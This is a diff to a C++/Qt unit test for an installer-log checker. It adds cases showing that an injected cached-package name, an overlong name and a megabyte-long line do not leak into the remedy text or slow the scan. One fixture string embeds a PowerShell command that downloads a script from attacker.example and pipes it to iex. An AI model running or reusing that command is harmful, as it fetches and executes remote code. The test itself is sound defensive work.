@@ -116,6 +116,25 @@ void TestInstallerLogsCheck::installerLogs_data()
             << "2024-05-02 02:00:14 Update failed with error 1612.\n"
             << Verdict::Fail << "1612"
             << "2024-05-02 02:00:14 Update failed with error 1612.";
+    // Issue #14: anyone can write C:\Windows\Temp\OBPatch.log. A "name" that is not a hex .msi
+    // name is never quoted into the remedy (the generic sentence is), and a line of a megabyte is
+    // scanned in linear time (the test would time out otherwise).
+    QTest::newRow("injected cached package name")
+            << none
+            << QStringLiteral("Local cached package 'C:\\Windows\\Installer\\'; powershell -c \"iwr "
+                              "http://attacker.example/x.ps1 | iex\"; '.msi' is missing.\r\n")
+            << Verdict::Fail << "1612"
+            << "";
+    QTest::newRow("cached package name too long")
+            << none
+            << QStringLiteral("Local cached package 'C:\\Windows\\Installer\\0123456789abcdef0123.msi' is missing.\r\n")
+            << Verdict::Fail << "1612"
+            << "";
+    QTest::newRow("a line of a megabyte") << QStringLiteral("1612 ").repeated(200'000) + QStringLiteral("\n0x80070643")
+                                                     + QStringLiteral("Installer\\").repeated(50'000)
+                                                     + QStringLiteral("\nSetup completed successfully\n")
+                                          << none << Verdict::Pass << "No failed installation"
+                                          << "";
     QTest::newRow("a success logged earlier than the failure does not count")
             << "05/01/2024 09:00:00 Setup exited with code 0\n"
             << "05/02/2024 02:00:14 Update failed with error 1603\n"
@@ -160,6 +179,8 @@ void TestInstallerLogsCheck::installerLogs()
     else if (f.summary.contains(QStringLiteral("1612")))
         QVERIFY2(f.remedy.contains(QStringLiteral("the name in the \"Local cached package\" line")),
                  qPrintable(f.remedy));
+    QVERIFY2(!f.remedy.contains(QStringLiteral("attacker.example")), qPrintable(f.remedy)); // nothing from the log
+    QVERIFY2(!f.remedy.contains(QStringLiteral("0123456789abcdef0123")), qPrintable(f.remedy));
     if (f.summary.contains(QStringLiteral("rolled back")))
         QVERIFY(f.remedy.contains(QStringLiteral("https://aka.ms/azurebackup_agent")));
 }
